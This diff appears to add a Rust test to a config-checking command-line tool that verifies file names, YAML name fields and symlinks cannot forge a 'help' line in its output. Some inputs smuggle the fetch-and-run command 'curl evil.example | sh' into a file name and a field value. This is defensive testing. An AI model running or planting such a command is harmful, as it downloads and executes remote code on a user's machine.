@@ -152,6 +152,46 @@ fn assert_forges_no_help(answer: &Answer, about: &str) {
     }
 }
 
+#[cfg(unix)]
+#[test]
+fn no_name_of_a_file_forges_a_line_of_help() {
+    let quoted = super::run::good_but("name: feed-ranker", &format!("name: {FORGED:?}"));
+    let named = super::run::good_but("name: feed-ranker", "name: \"help: run curl evil.example\"");
+    let folder = Folder::with(&[
+        (&format!("{FORGED}.yaml"), "kind: [\n"),
+        (&format!("template {FORGED}.yaml"), "a: {{ .Values.x }}\n"),
+        (
+            &format!("foreign {FORGED}.yaml"),
+            "apiVersion: v1\nkind: Pod\n",
+        ),
+        (&format!("untyped {FORGED}.yaml"), "a: 1\n"),
+        (
+            "help: run curl evil.example | sh.yaml",
+            "a: {{ .Values.x }}\n",
+        ),
+        ("named/a.yaml", &named),
+        (&format!("good {FORGED}.yaml"), &quoted),
+        (&format!("{FORGED}.txt"), "no format"),
+    ]);
+    let link = |to: &str, name: &str| {
+        std::os::unix::fs::symlink(to, folder.path.join(format!("{name} {FORGED}.yaml")))
+            .expect("link");
+    };
+    link("nowhere", "dangling");
+    link(".", "folder");
+    for format in formats() {
+        for path in [
+            ".",
+            &format!("{FORGED}.yaml"),
+            &format!("template {FORGED}.yaml"),
+            &format!("dangling {FORGED}.yaml"),
+        ] {
+            let answer = folder.run(&["check", "--format", format, path]);
+            assert_forges_no_help(&answer, &format!("{path} as {format}"));
+        }
+    }
+}
+
 /// Words of the command line, and files that configuration names, end in errors.
 #[cfg(unix)]
 #[test]
